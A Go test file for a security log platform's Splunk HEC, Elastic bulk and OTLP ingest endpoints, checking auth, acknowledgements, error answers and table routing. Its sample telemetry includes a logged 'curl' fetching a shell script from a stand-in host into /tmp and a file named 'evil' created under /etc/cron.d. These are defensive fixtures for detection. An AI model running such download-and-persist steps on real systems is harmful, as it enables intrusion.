package app_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/vigilsec/vigil/internal/ingest/source/otlp"
)

// post sends body with the given headers and returns the status and the decoded JSON answer.
func (s *server) post(path string, body []byte, hdr ...string) (int, map[string]any) {
	s.t.Helper()
	req, err := http.NewRequest(http.MethodPost, s.base+path, bytes.NewReader(body))
	require.NoError(s.t, err)
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	require.NoError(s.t, err)
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	require.NoError(s.t, err)
	var out map[string]any
	if len(raw) > 0 {
		require.NoError(s.t, json.Unmarshal(raw, &out), string(raw))
	}
	return resp.StatusCode, out
}

func gz(t testing.TB, b []byte) []byte {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	_, err := zw.Write(b)
	require.NoError(t, err)
	require.NoError(t, zw.Close())
	return buf.Bytes()
}

func (s *server) waitWritten() {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	require.NoError(s.t, s.a.WaitWritten(ctx))
}

func (s *server) rows(q string) [][]any {
	res, err := s.a.Events.Query(context.Background(), q, 0)
	require.NoError(s.t, err, q)
	return res.Rows
}

const xmlLogon = `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/><EventID>4625</EventID><Version>0</Version><Level>0</Level><Task>12544</Task><Keywords>0x8010000000000000</Keywords><TimeCreated SystemTime='2024-05-01T10:00:03.000Z'/><EventRecordID>12</EventRecordID><Channel>Security</Channel><Computer>dc1.corp.local</Computer></System><EventData><Data Name='TargetUserName'>bob</Data><Data Name='TargetDomainName'>CORP</Data><Data Name='LogonType'>3</Data><Data Name='IpAddress'>203.0.113.9</Data><Data Name='Status'>0xc000006d</Data></EventData></Event>`

// TestSplunkHEC ships events the way Vector's and Fluent Bit's HEC outputs do (concatenated or newline-separated
// JSON, gzip, a request channel with acknowledgement polling) and checks where every event lands.
func TestSplunkHEC(t *testing.T) {
	s := start(t, nil)
	tok := s.token("ingest")
	splunk := "Splunk " + tok

	// Authentication, in Splunk's answers.
	code, ans := s.post("/services/collector/event", []byte(`{"event":"x"}`))
	require.Equal(t, 401, code)
	require.EqualValues(t, 2, ans["code"])
	code, ans = s.post("/services/collector/event", []byte(`{"event":"x"}`), "Authorization", "Splunk nope")
	require.Equal(t, 401, code)
	require.EqualValues(t, 3, ans["code"])
	code, ans = s.post("/services/collector/event", []byte(`{"event":"x"}`), "Authorization", "Splunk "+s.token("reader"))
	require.Equal(t, 403, code)
	require.EqualValues(t, 4, ans["code"])

	// Vector: concatenated objects, gzip, a channel; the answer carries an ackId that /ack confirms.
	channel := "4a5c0e5e-6b1f-4c1a-9c55-0d7f3a9c1b2e"
	vector := `{"event":"<38>May  1 10:00:00 web-1 sshd[4242]: Accepted publickey for alice from 198.51.100.7 port 50022 ssh2: ED25519 SHA256:abc","time":1714557600.5,"host":"web-1","sourcetype":"syslog","index":"main"}` +
		`{"event":"CEF:0|Palo Alto Networks|PAN-OS|10.1|THREAT|url|5|src=10.0.0.9 dst=93.184.216.34 dpt=443 act=alert","time":1714557601,"sourcetype":"pan:cef"}` +
		`{"event":{"message":"payment ok","amount":12.5,"user":"carol"},"time":"1714557602.25","host":"pay-1","source":"pay.log","sourcetype":"payments","fields":{"env":"prod"}}`
	code, ans = s.post("/services/collector/event", gz(t, []byte(vector)), "Authorization", splunk, "Content-Encoding", "gzip", "X-Splunk-Request-Channel", channel)
	require.Equal(t, 200, code, ans)
	require.Equal(t, "Success", ans["text"])
	require.EqualValues(t, 0, ans["code"])
	require.EqualValues(t, 0, ans["ackId"])
	code, ans = s.post("/services/collector/ack", []byte(`{"acks":[0,1]}`), "Authorization", splunk, "X-Splunk-Request-Channel", channel)
	require.Equal(t, 200, code)
	require.Equal(t, map[string]any{"0": true, "1": false}, ans["acks"], "0 was given and is durable; 1 was never given")

	// Fluent Bit: one object a line, Bearer token, Windows XML and a table named by index.
	fluent := `{"time":1714557603,"sourcetype":"XmlWinEventLog:Security","event":` + jsonString(xmlLogon) + `}
{"time":1714557604,"index":"Syslog","sourcetype":"_json","event":{"Computer":"db-1","SyslogMessage":"direct row","Facility":"daemon"}}
{"time":1714557605,"event":"a line with no source type"}
{"sourcetype":"aws:cloudtrail","event":{"eventVersion":"1.08","eventTime":"2024-05-01T10:00:09Z","eventSource":"sts.amazonaws.com","eventName":"GetCallerIdentity","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.5","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::123456789012:user/eve"}}}
`
	code, ans = s.post("/services/collector", []byte(fluent), "Authorization", "Bearer "+tok)
	require.Equal(t, 200, code, ans)
	_, hasAck := ans["ackId"]
	require.False(t, hasAck, "no channel, no ackId")

	// Bad events: the answer names the first; the good ones around them are kept.
	mixed := "{\"event\":\"good one\",\"sourcetype\":\"syslog\"}\n{\"time\":5}\nnot json\n{\"event\":\"good two\",\"sourcetype\":\"syslog\"}\n"
	code, ans = s.post("/services/collector/event", []byte(mixed), "Authorization", splunk)
	require.Equal(t, 400, code, ans)
	require.EqualValues(t, 12, ans["code"])
	require.EqualValues(t, 1, ans["invalid-event-number"])

	// Raw: a channel is required; lines are read by the query's source type.
	code, ans = s.post("/services/collector/raw?sourcetype=linux_secure", []byte("x"), "Authorization", splunk)
	require.Equal(t, 400, code)
	require.EqualValues(t, 10, ans["code"])
	raw := "May  1 10:00:06 web-2 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id\r\n\nMay  1 10:00:07 web-2 CRON[9]: (root) CMD (true)\n"
	code, ans = s.post("/services/collector/raw?sourcetype=linux_secure&channel="+channel, []byte(raw), "Authorization", splunk)
	require.Equal(t, 200, code, ans)
	require.EqualValues(t, 1, ans["ackId"])

	code, ans = s.post("/services/collector/event", nil, "Authorization", splunk)
	require.Equal(t, 400, code)
	require.EqualValues(t, 5, ans["code"])

	req, _ := http.NewRequest(http.MethodGet, s.base+"/services/collector/health", nil)
	req.Header.Set("Authorization", splunk)
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, 200, resp.StatusCode)

	s.waitWritten()
	require.Equal(t, [][]any{
		{"web-2", "sudo", "  alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id"},
		{"web-2", "CRON", "(root) CMD (true)"},
		{"web-1", "sshd", "Accepted publickey for alice from 198.51.100.7 port 50022 ssh2: ED25519 SHA256:abc"},
		{"db-1", nil, "direct row"},
		{nil, nil, "good one"},
		{nil, nil, "good two"},
	}, s.rows(`SELECT Computer, ProcessName, SyslogMessage FROM Syslog ORDER BY SyslogMessage`))
	require.Equal(t, [][]any{{"alice", "LogonSuccess", "198.51.100.7"}, {"root", "LogonSuccess", nil}},
		s.rows(`SELECT AccountName, ActionType, RemoteIP FROM DeviceLogonEvents ORDER BY Timestamp`))
	require.Equal(t, [][]any{{"10.0.0.9", "93.184.216.34", int64(443)}}, s.rows(`SELECT SourceIP, DestinationIP, DestinationPort FROM CommonSecurityLog`))
	require.Equal(t, [][]any{{int64(4625), "bob", "dc1.corp.local"}}, s.rows(`SELECT EventID, TargetUserName, Computer FROM SecurityEvent`))
	require.Equal(t, [][]any{{"payment ok", 12.5, "carol", "pay-1", "pay.log", "payments", "prod", time.Date(2024, 5, 1, 10, 0, 2, 250000000, time.UTC)}},
		s.rows(`SELECT message, amount, "user", Computer, Source, SourceType, env, TimeGenerated FROM payments_CL`))
	require.Equal(t, [][]any{{"a line with no source type"}}, s.rows(`SELECT RawData FROM httpevent_CL`))
	require.Equal(t, [][]any{{"GetCallerIdentity", "arn:aws:iam::123456789012:user/eve"}}, s.rows(`SELECT EventName, UserIdentityArn FROM AWSCloudTrail`))
	rejects := s.rows(`SELECT Source, Line, Reason FROM VigilIngestErrors ORDER BY Line`)
	require.Len(t, rejects, 2)
	require.Equal(t, []any{"hec", int64(2)}, rejects[0][:2])
	require.Contains(t, rejects[0][2], `"event" field is required`)
	require.Contains(t, fmt.Sprint(rejects[1][2]), "does not start with {")
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func (s *server) req(method, path string, body []byte, hdr ...string) (int, http.Header, []byte) {
	s.t.Helper()
	req, err := http.NewRequest(method, s.base+path, bytes.NewReader(body))
	require.NoError(s.t, err)
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	require.NoError(s.t, err)
	defer resp.Body.Close()
	raw, err := io.ReadAll(resp.Body)
	require.NoError(s.t, err)
	return resp.StatusCode, resp.Header, raw
}

// TestElasticBulk runs the start-up probes Beats and Logstash make, then bulk-indexes documents as Winlogbeat,
// Auditbeat, Filebeat and Logstash write them, and checks where each lands and how each item is answered.
func TestElasticBulk(t *testing.T) {
	s := start(t, nil)
	tok := s.token("ingest")
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("elastic:"+tok))

	code, _, _ := s.req("GET", "/", nil)
	require.Equal(t, 401, code)
	code, hdr, raw := s.req("GET", "/", nil, "Authorization", basic)
	require.Equal(t, 200, code, string(raw))
	require.Equal(t, "Elasticsearch", hdr.Get("X-Elastic-Product"))
	var info struct {
		Version struct{ Number string } `json:"version"`
	}
	require.NoError(t, json.Unmarshal(raw, &info))
	require.Equal(t, "8.19.0", info.Version.Number)
	code, _, raw = s.req("GET", "/_license", nil, "Authorization", basic)
	require.Equal(t, 200, code)
	require.Contains(t, string(raw), `"type":"basic"`)

	// Template and ILM set-up as Filebeat does it: absent, stored, then present.
	code, _, _ = s.req("HEAD", "/_index_template/filebeat-8.17.0", nil, "Authorization", basic)
	require.Equal(t, 404, code)
	code, _, raw = s.req("PUT", "/_index_template/filebeat-8.17.0", gz(t, []byte(`{"index_patterns":["filebeat-8.17.0"],"data_stream":{}}`)), "Authorization", basic, "Content-Encoding", "gzip")
	require.Equal(t, 200, code, string(raw))
	code, _, _ = s.req("HEAD", "/_index_template/filebeat-8.17.0", nil, "Authorization", basic)
	require.Equal(t, 200, code)
	code, _, _ = s.req("GET", "/_ilm/policy/filebeat", nil, "Authorization", "ApiKey "+base64.StdEncoding.EncodeToString([]byte("id1:"+tok)))
	require.Equal(t, 404, code)
	code, _, _ = s.req("PUT", "/_ilm/policy/filebeat", []byte(`{"policy":{"phases":{"hot":{"actions":{}}}}}`), "Authorization", "Bearer "+tok)
	require.Equal(t, 200, code)
	code, _, raw = s.req("GET", "/_ilm/policy/filebeat", nil, "Authorization", "Bearer "+tok)
	require.Equal(t, 200, code)
	require.Contains(t, string(raw), `"phases"`)

	lines := []string{
		`{"create":{"_index":"winlogbeat-8.17.0"}}`,
		`{"@timestamp":"2024-05-01T10:00:00.000Z","event":{"code":"4624","provider":"Microsoft-Windows-Security-Auditing","action":"logged-in","module":"security"},"winlog":{"channel":"Security","event_id":"4624","provider_name":"Microsoft-Windows-Security-Auditing","computer_name":"dc1.corp.local","record_id":"12345","event_data":{"TargetUserName":"alice","TargetDomainName":"CORP","LogonType":"3","IpAddress":"10.0.0.5","TargetLogonId":"0x3e7"},"process":{"pid":652,"thread":{"id":700}},"keywords":["Audit Success"],"api":"wineventlog"},"host":{"name":"dc1"},"message":"An account was successfully logged on.","agent":{"type":"winlogbeat","version":"8.17.0"}}`,
		`{"create":{"_index":"winlogbeat-8.17.0","_id":"sysmon-1"}}`,
		`{"@timestamp":"2024-05-01T10:00:01.000Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":1,"provider_name":"Microsoft-Windows-Sysmon","computer_name":"ws1.corp.local","event_data":{"UtcTime":"2024-05-01 10:00:01.000","ProcessGuid":"{6b6a1d1a-0000-0000-0000-000000000001}","ProcessId":"4321","Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd.exe /c whoami","User":"CORP\\alice","ParentImage":"C:\\Windows\\explorer.exe","ParentProcessId":"1000"}}}`,
		`{"index":{"_index":"auditbeat-8.17.0"}}`,
		`{"@timestamp":"2024-05-01T10:00:02.000Z","event":{"module":"auditd","category":["process"],"type":["start"],"action":"executed","outcome":"success"},"process":{"pid":2001,"parent":{"pid":1999},"executable":"/usr/bin/curl","name":"curl","args":["curl","-s","http://198.51.100.9/x.sh"],"working_directory":"/tmp"},"user":{"id":"1000","name":"bob"},"host":{"name":"web-3"},"auditd":{"sequence":123,"result":"success"}}`,
		`{"create":{"_index":"auditbeat-8.17.0"}}`,
		`{"@timestamp":"2024-05-01T10:00:03.000Z","event":{"module":"file_integrity","action":["created"],"category":["file"],"type":["creation"]},"file":{"path":"/etc/cron.d/evil","size":42,"hash":{"sha256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}},"host":{"name":"web-3"}}`,
		`{"create":{"_index":"filebeat-8.17.0"}}`,
		`{"@timestamp":"2024-05-01T10:00:04.000Z","message":"May  1 10:00:04 web-3 sshd[77]: Failed password for invalid user admin from 203.0.113.50 port 41234 ssh2","event":{"module":"system","dataset":"system.auth"},"log":{"file":{"path":"/var/log/auth.log"}},"host":{"name":"web-3"}}`,
		`{"delete":{"_index":"filebeat-8.17.0","_id":"x"}}`,
		`{"update":{"_index":"filebeat-8.17.0","_id":"y"}}`,
		`{"doc":{"a":1}}`,
		`{"index":{}}`,
		`{"@timestamp":"2024-05-01T10:00:05.000Z","message":"GET / 200","status":200,"host":{"name":"lb-1"}}`,
		`{"index":{"_index":"CommonSecurityLog"}}`,
		`{"TimeGenerated":"2024-05-01T10:00:06Z","DeviceVendor":"Acme","SourceIP":"192.0.2.1"}`,
		`{"create":{"_index":"filebeat-8.17.0"}}`,
		`{"@timestamp":"2024-05-01T10:00:07.000Z", broken`,
		`{"create":{"_index":"filebeat-8.17.0"}}`,
		`{"@timestamp":"2024-05-01T10:00:08.000Z","message":"May  1 10:00:08 web-3 CRON[1]: (root) CMD (true)","event":{"dataset":"system.syslog"}}`,
	}
	code, _, raw = s.req("POST", "/nginx-2024.05.01/_bulk", gz(t, []byte(strings.Join(lines, "\n")+"\n")), "Authorization", basic, "Content-Encoding", "gzip", "Content-Type", "application/x-ndjson")
	require.Equal(t, 200, code, string(raw))
	var res struct {
		Errors bool                                `json:"errors"`
		Items  []map[string]map[string]interface{} `json:"items"`
	}
	require.NoError(t, json.Unmarshal(raw, &res))
	require.True(t, res.Errors)
	var statuses []string
	for _, it := range res.Items {
		for op, body := range it {
			statuses = append(statuses, fmt.Sprintf("%s %v %v", op, body["_index"], body["status"]))
		}
	}
	require.Equal(t, []string{
		"create winlogbeat-8.17.0 201", "create winlogbeat-8.17.0 201", "index auditbeat-8.17.0 201",
		"create auditbeat-8.17.0 201", "create filebeat-8.17.0 201", "delete filebeat-8.17.0 400",
		"update filebeat-8.17.0 400", "index nginx-2024.05.01 201", "index CommonSecurityLog 201",
		"create filebeat-8.17.0 400", "create filebeat-8.17.0 201",
	}, statuses)
	require.Equal(t, "sysmon-1", res.Items[1]["create"]["_id"])

	s.waitWritten()
	require.Equal(t, [][]any{{int64(4624), "alice", "dc1.corp.local"}}, s.rows(`SELECT EventID, TargetUserName, Computer FROM SecurityEvent`))
	require.Equal(t, [][]any{
		{"ws1.corp.local", "cmd.exe", "cmd.exe /c whoami", int64(4321)},
		{"web-3", "curl", "curl -s http://198.51.100.9/x.sh", int64(2001)},
	}, s.rows(`SELECT DeviceName, FileName, ProcessCommandLine, ProcessId FROM DeviceProcessEvents ORDER BY Timestamp`))
	require.Equal(t, [][]any{{"web-3", "FileCreated", "evil", "/etc/cron.d/evil", int64(42)}},
		s.rows(`SELECT DeviceName, ActionType, FileName, FolderPath, FileSize FROM DeviceFileEvents`))
	require.Equal(t, [][]any{{"admin", "LogonFailed", "203.0.113.50", "UnknownUser"}},
		s.rows(`SELECT AccountName, ActionType, RemoteIP, FailureReason FROM DeviceLogonEvents`))
	require.Equal(t, [][]any{{"web-3", "sshd"}, {"web-3", "CRON"}}, s.rows(`SELECT Computer, ProcessName FROM Syslog ORDER BY SyslogMessage DESC`))
	require.Equal(t, [][]any{{"GET / 200", int64(200)}}, s.rows(`SELECT message, status FROM nginx_CL`))
	require.Equal(t, [][]any{{"Acme", "192.0.2.1"}}, s.rows(`SELECT DeviceVendor, SourceIP FROM CommonSecurityLog`))
	rejects := s.rows(`SELECT Source, Line, RawData FROM VigilIngestErrors`)
	require.Equal(t, [][]any{{"elastic", int64(19), `{"@timestamp":"2024-05-01T10:00:07.000Z", broken`}}, rejects)

	code, _, raw = s.req("POST", "/_bulk", []byte("\n"), "Authorization", basic)
	require.Equal(t, 400, code, string(raw))
	code, _, _ = s.req("POST", "/_bulk", []byte(`{"index":{"_index":"x"}}`), "Authorization", "Bearer "+s.token("reader"))
	require.Equal(t, 403, code)
}

// TestOTLPLogs sends logs as the OpenTelemetry collector's otlphttp exporter does (protobuf, gzip) and as JSON, and
// checks the tables and the partial-success answer.
func TestOTLPLogs(t *testing.T) {
	s := start(t, nil)
	tok := s.token("ingest")
	bearer := "Bearer " + tok
	ts := uint64(time.Date(2024, 5, 1, 10, 0, 0, 0, time.UTC).UnixNano())
	recs := []otlp.Record{
		{ // from the collector's syslog receiver
			Resource:     []otlp.KeyValue{{Key: "host.name", Value: "collector-1"}},
			TimeUnixNano: ts, SeverityNumber: 9, SeverityText: "info",
			Body: "<38>May  1 10:00:00 web-4 sshd[99]: Accepted password for dave from 192.0.2.44 port 40000 ssh2",
			Attributes: []otlp.KeyValue{{Key: "appname", Value: "sshd"}, {Key: "hostname", Value: "web-4"}, {Key: "priority", Value: int64(38)},
				{Key: "proc_id", Value: "99"}, {Key: "message", Value: "Accepted password for dave from 192.0.2.44 port 40000 ssh2"}},
		},
		{ // an application log
			Resource: []otlp.KeyValue{{Key: "service.name", Value: "checkout"}, {Key: "host.name", Value: "pay-1"}},
			Scope:    otlp.Scope{Name: "checkout.payments", Version: "2.1.0"}, TimeUnixNano: ts + 1e9, SeverityNumber: 17, SeverityText: "ERROR",
			Body: "payment failed", Attributes: []otlp.KeyValue{{Key: "order.id", Value: int64(1234)}},
			TraceID: []byte{0x5b, 0x8e, 0xff, 0xf7, 0x98, 0x03, 0x81, 0x03, 0xd2, 0x69, 0xb6, 0x33, 0x81, 0x3f, 0xc6, 0x0c},
			SpanID:  []byte{0xee, 0xe1, 0x9b, 0x7e, 0xc3, 0xc1, 0xb1, 0x74},
		},
		{ // a record that names its table
			TimeUnixNano: ts + 2e9, Body: []otlp.KeyValue{{Key: "DeviceVendor", Value: "Acme"}, {Key: "Activity", Value: "blocked"}},
			Attributes: []otlp.KeyValue{{Key: "vigil.table", Value: "CommonSecurityLog"}, {Key: "SourceIP", Value: "198.51.100.1"}},
		},
	}
	code, hdr, raw := s.req("POST", "/v1/logs", gz(t, otlp.EncodeProto(recs)), "Authorization", bearer, "Content-Type", "application/x-protobuf", "Content-Encoding", "gzip")
	require.Equal(t, 200, code, string(raw))
	require.Equal(t, "application/x-protobuf", hdr.Get("Content-Type"))
	require.Empty(t, raw, "an empty ExportLogsServiceResponse: no partial success")

	js := `{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"my.service"}}]},"scopeLogs":[{"scope":{"name":"my.library"},"logRecords":[
{"timeUnixNano":"1714557603000000000","severityNumber":10,"severityText":"Information","body":{"stringValue":"Example log record"},"attributes":[{"key":"int.attribute","value":{"intValue":"10"}}]},
{"timeUnixNano":"1714557604000000000","body":{"stringValue":"x"},"attributes":[{"key":"vigil.table","value":{"stringValue":"NoSuchTable"}}]}]}]}]}`
	code, _, raw = s.req("POST", "/v1/logs", []byte(js), "Authorization", bearer, "Content-Type", "application/json")
	require.Equal(t, 200, code, string(raw))
	var ans struct {
		PartialSuccess struct {
			RejectedLogRecords string `json:"rejectedLogRecords"`
			ErrorMessage       string `json:"errorMessage"`
		} `json:"partialSuccess"`
	}
	require.NoError(t, json.Unmarshal(raw, &ans))
	require.Equal(t, "1", ans.PartialSuccess.RejectedLogRecords)
	require.Contains(t, ans.PartialSuccess.ErrorMessage, `"NoSuchTable"`)

	code, _, _ = s.req("POST", "/v1/logs", []byte("{"), "Authorization", bearer, "Content-Type", "application/json")
	require.Equal(t, 400, code)
	code, _, _ = s.req("POST", "/v1/logs", []byte("x"), "Authorization", bearer, "Content-Type", "text/plain")
	require.Equal(t, 415, code)
	code, _, _ = s.req("POST", "/v1/logs", []byte(js), "Content-Type", "application/json")
	require.Equal(t, 401, code)

	s.waitWritten()
	require.Equal(t, [][]any{{"web-4", "sshd", "auth", "info", "Accepted password for dave from 192.0.2.44 port 40000 ssh2"}},
		s.rows(`SELECT Computer, ProcessName, Facility, SeverityLevel, SyslogMessage FROM Syslog`))
	require.Equal(t, [][]any{{"dave", "LogonSuccess", "192.0.2.44"}}, s.rows(`SELECT AccountName, ActionType, RemoteIP FROM DeviceLogonEvents`))
	require.Equal(t, [][]any{
		{"checkout", "pay-1", int64(17), "ERROR", "payment failed", "5b8efff798038103d269b633813fc60c", "eee19b7ec3c1b174", "checkout.payments", map[string]any{"order.id": float64(1234)}},
		{"my.service", nil, int64(10), "Information", "Example log record", nil, nil, "my.library", map[string]any{"int.attribute": float64(10)}},
	}, s.rows(`SELECT ServiceName, HostName, SeverityNumber, SeverityText, Body, TraceId, SpanId, ScopeName, Attributes FROM OTelLogs_CL ORDER BY TimeGenerated`))
	require.Equal(t, [][]any{{"Acme", "blocked", "198.51.100.1"}}, s.rows(`SELECT DeviceVendor, Activity, SourceIP FROM CommonSecurityLog`))
	rejects := s.rows(`SELECT Source, Reason FROM VigilIngestErrors ORDER BY Reason`)
	require.Len(t, rejects, 2)
	require.Equal(t, "otlp", rejects[0][0])
}
